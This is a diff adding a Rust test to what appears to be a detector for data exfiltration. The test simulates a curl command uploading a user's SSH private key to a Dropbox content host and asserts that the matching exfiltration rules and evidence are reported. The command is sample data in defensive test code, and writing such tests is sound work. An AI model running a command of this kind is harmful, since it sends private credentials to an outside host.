@@ -78,3 +78,28 @@ fn relative_files_are_named_all_the_same() {
         assert!(alert.rules.iter().any(|rule| &*rule.id == "cw.exfil.argv-upload"), "{cwd} {line}");
     }
 }
+
+/// The open that a command line announced is told beside it, and takes nothing away from it.
+#[test]
+fn the_command_line_and_the_open_of_one_file() {
+    let key = "/Users/alice/.ssh/id_rsa";
+    for (opened, evidence) in [(false, &["argv"][..]), (true, &["open", "argv"])] {
+        let mut w = World::new();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let curl = apple("/usr/bin/curl", "com.apple.curl");
+        let p = w.spawn(1.0, &shell, curl, &["curl", "-T", key, "https://content.dropboxapi.com/x"]);
+        if opened {
+            w.open(1.5, &p, key);
+        }
+        w.upload(2.0, &p, "content.dropboxapi.com", 20_000);
+        let told = w.tell();
+        let alert = told.alert();
+        assert_eq!(alert.count, 1);
+        let rules: Vec<&str> = alert.rules.iter().map(|rule| &*rule.id).collect();
+        assert_eq!(rules, ["cw.exfil.argv-upload", "cw.exfil.cloud-storage"]);
+        assert!(alert.reads.iter().all(|read| read.path.to_string() == key));
+        let ways: Vec<&str> = alert.reads.iter().map(|read| read.evidence.as_str()).collect();
+        assert_eq!(ways, evidence);
+        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "arguments-name-file"));
+    }
+}
